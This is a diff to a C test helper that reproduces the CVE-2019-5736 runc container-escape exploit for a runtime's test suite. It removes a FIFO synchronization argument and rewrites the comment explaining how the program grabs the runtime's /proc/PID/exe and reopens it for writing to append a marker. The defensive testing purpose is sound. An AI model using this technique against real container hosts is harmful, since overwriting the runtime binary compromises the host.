@@ -1,15 +1,15 @@
 /* exeattack: the CVE-2019-5736 attack, run inside a container by the tests.
  *
- *   exeattack FIFO SECONDS
+ *   exeattack SECONDS
  *
- * Scans /proc for a process whose executable is neither this program nor
- * busybox (that is: a runtime process that entered the container, or the
- * runtime re-executed through "#!/proc/self/exe"), opens its
- * /proc/PID/exe, and then tries, until SECONDS have passed, to reopen that
- * file for writing through /proc/self/fd/N (the runtime's own copy is
- * busy, ETXTBSY, while it runs) and append a marker to it. The runtime
- * re-executed by the test blocks opening FIFO for writing (its --log file):
- * once the attacker holds the exe, it opens and closes FIFO to let it go.
+ * Scans /proc, as fast as it can, for a process whose executable is neither
+ * this program nor busybox: a runtime process that entered the container
+ * (the exec child, or the init of a container sharing our pid namespace)
+ * and is still the runtime's binary. The kernel lets us open its
+ * /proc/PID/exe once it runs with our own capabilities, between dropping
+ * them and its execve. Then we try, until SECONDS have passed, to reopen
+ * that file for writing through /proc/self/fd/N (ETXTBSY while anyone
+ * still runs it) and append a marker to it.
  *
  * Prints one line per step; "ATTACK WORKED" only when bytes were written
  * into the runtime's executable. Exit status 0 once an exe was opened. */
@@ -84,12 +84,12 @@ int main(int argc, char **argv)
 	pid_t pid = 0;
 	int exe = -1;
 
-	if (argc != 3) {
-		fprintf(stderr, "usage: exeattack FIFO SECONDS\n");
+	if (argc != 2) {
+		fprintf(stderr, "usage: exeattack SECONDS\n");
 		return 2;
 	}
 	setvbuf(stdout, NULL, _IOLBF, 0);
-	deadline = now() + atof(argv[2]);
+	deadline = now() + atof(argv[1]);
 	if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &bb) < 0) {
 		perror("exeattack: stat");
 		return 2;
@@ -107,13 +107,6 @@ int main(int argc, char **argv)
 	ssize_t n = readlink(link, target, sizeof(target) - 1);
 	target[n > 0 ? n : 0] = '\0';
 	printf("opened the exe of pid %d: %s\n", pid, target);
-
-	/* Let the blocked runtime go on and exit. */
-	int fifo = open(argv[1], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
-	if (fifo >= 0) {
-		usleep(100000);
-		close(fifo);
-	}
 
 	int last = 0;
 	while (now() < deadline) {
